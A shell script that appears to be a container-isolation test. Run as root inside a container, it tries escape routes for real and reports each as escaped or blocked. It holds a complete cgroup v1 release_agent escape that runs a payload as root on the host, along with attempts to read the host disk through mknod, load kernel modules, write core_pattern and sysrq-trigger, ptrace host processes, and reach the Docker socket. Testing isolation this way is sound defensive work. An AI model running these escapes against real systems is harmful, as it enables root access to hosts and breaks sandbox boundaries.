#!/bin/sh
# Run as root inside a container: every way out of a container that this suite
# knows, each tried for real. One line per attempt: NAME escaped|blocked DETAIL.
# "escaped" means the attempt did what an attacker wanted; the test on the host
# also looks for the marker the release_agent payload would leave there.
# Usage: sh escapes.sh MARKER   (MARKER names the host file the payload would touch)
marker=${1:?marker}
say() { echo "$1 $2 ${3:-}"; }
mnt=$(mktemp -d)

# 1. The cgroup v1 release_agent escape (CVE-2022-0492 class): a hierarchy whose
#    release_agent we can write, a child cgroup with notify_on_release, and a
#    process that leaves it; the kernel then runs release_agent as root on the host.
root=""
for c in $(awk 'NR > 1 && $2 == 0 {print $1}' /proc/cgroups) rdma memory; do
  mount -t cgroup -o "$c" cgroup "$mnt" 2>/dev/null && { root=$mnt; break; }
done
if [ -n "$root" ]; then say mount_cgroup escaped "mounted a cgroup v1 hierarchy"; else say mount_cgroup blocked; fi
if [ -z "$root" ]; then
  for f in /sys/fs/cgroup/*/release_agent; do [ -e "$f" ] && { root=$(dirname "$f"); break; }; done
fi
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/self/mounts | head -n1)
if [ -n "$root" ] && [ -n "$upper" ] && [ -w "$root/release_agent" ] 2>/dev/null; then
  old=$(cat "$root/release_agent")
  printf '#!/bin/sh\ntouch %s\n' "$marker" > /sciaas-payload && chmod 0755 /sciaas-payload
  if echo "$upper/sciaas-payload" > "$root/release_agent" 2>/dev/null; then
    mkdir -p "$root/sciaas-x" && echo 1 > "$root/sciaas-x/notify_on_release"
    sh -c "echo \$\$ > $root/sciaas-x/cgroup.procs" 2>/dev/null
    sleep 1
    rmdir "$root/sciaas-x" 2>/dev/null
    echo "$old" > "$root/release_agent"
    say release_agent escaped "wrote $root/release_agent"
  else
    say release_agent blocked "release_agent not writable"
  fi
  rm -f /sciaas-payload
else
  say release_agent blocked "no writable release_agent"
fi
umount "$mnt" 2>/dev/null

# 2. The host's cgroup tree: can we see other containers' cgroups, or create a
#    cgroup outside our own (leave our limits, change another's)?
seen=""
for d in /sys/fs/cgroup/memory/docker /sys/fs/cgroup/memory/system.slice /sys/fs/cgroup/docker /sys/fs/cgroup/system.slice; do
  [ -d "$d" ] && seen="$seen $d"
done
if [ -n "$seen" ]; then say see_host_cgroups escaped "the host's cgroups are visible:$seen"; else say see_host_cgroups blocked; fi
made=""
for h in memory pids cpu; do
  if mkdir "/sys/fs/cgroup/$h/sciaas-probe-$$" 2>/dev/null; then made="$made $h"; rmdir "/sys/fs/cgroup/$h/sciaas-probe-$$"; fi
done
if [ -n "$made" ]; then say create_cgroup escaped "created a cgroup in:$made"; else say create_cgroup blocked; fi
own=$(awk -F: '$2 == "memory" {print $3}' /proc/self/cgroup)
if (echo 9223372036854771712 > "/sys/fs/cgroup/memory${own%/}/memory.limit_in_bytes") 2>/dev/null; then
  say raise_own_limit escaped "wrote memory.limit_in_bytes"
else
  say raise_own_limit blocked
fi

# 3. New mounts of the kernel's filesystems.
for fs in proc sysfs tmpfs; do
  if mount -t "$fs" "$fs" "$mnt" 2>/dev/null; then say "mount_$fs" escaped; umount "$mnt"; else say "mount_$fs" blocked; fi
done

# 4. The host's disk through a device node.
disk=$(awk 'NR > 2 && $4 !~ /[0-9]$/ {print $1 ":" $2; exit}' /proc/partitions)
if mknod /tmp/sciaas-disk b "${disk%%:*}" "${disk##*:}" 2>/dev/null; then
  if head -c 512 /tmp/sciaas-disk >/dev/null 2>&1; then say read_host_disk escaped "read block device $disk"
  else say read_host_disk blocked "mknod worked, reading $disk was refused"; fi
  rm -f /tmp/sciaas-disk
else
  say read_host_disk blocked "mknod refused"
fi

# 5. Kernel modules, sysrq and core_pattern (a core_pattern pipe runs as root on the host).
#    finit_module on any file: the permission check comes first, so anything but
#    EPERM (or ENOSYS, a kernel without modules) means it got past it.
if python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
rc = libc.syscall(313, os.open("/bin/sh", os.O_RDONLY), b"", 0)
sys.exit(0 if rc == 0 or ctypes.get_errno() not in (1, 38) else 1)'
then say load_module escaped "finit_module passed the permission check"; else say load_module blocked; fi
if (echo h > /proc/sysrq-trigger) 2>/dev/null; then say sysrq escaped; else say sysrq blocked; fi
if (echo core > /proc/sys/kernel/core_pattern) 2>/dev/null || mount -o remount,rw /proc/sys 2>/dev/null; then
  say core_pattern escaped
else
  say core_pattern blocked
fi

# 6. A host process (the host starts one and passes its PID as $2): seen, and so
#    open to signals and ptrace, only if it shows under that PID here.
hostpid=${2:-}
if [ -n "$hostpid" ]; then
  if grep -q sciaas-host-process "/proc/$hostpid/cmdline" 2>/dev/null; then
    say host_process escaped "host PID $hostpid is visible"
  elif python3 -c "import ctypes, sys; sys.exit(ctypes.CDLL(None).ptrace(16, $hostpid, None, None) != 0)" 2>/dev/null; then
    say host_process escaped "ptrace attached to PID $hostpid"
  else
    say host_process blocked
  fi
fi

# 7. The engine's socket.
sock=""
for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do [ -S "$s" ] && sock=$s; done
if [ -n "$sock" ]; then say docker_socket escaped "$sock"; else say docker_socket blocked; fi
rmdir "$mnt" 2>/dev/null
exit 0
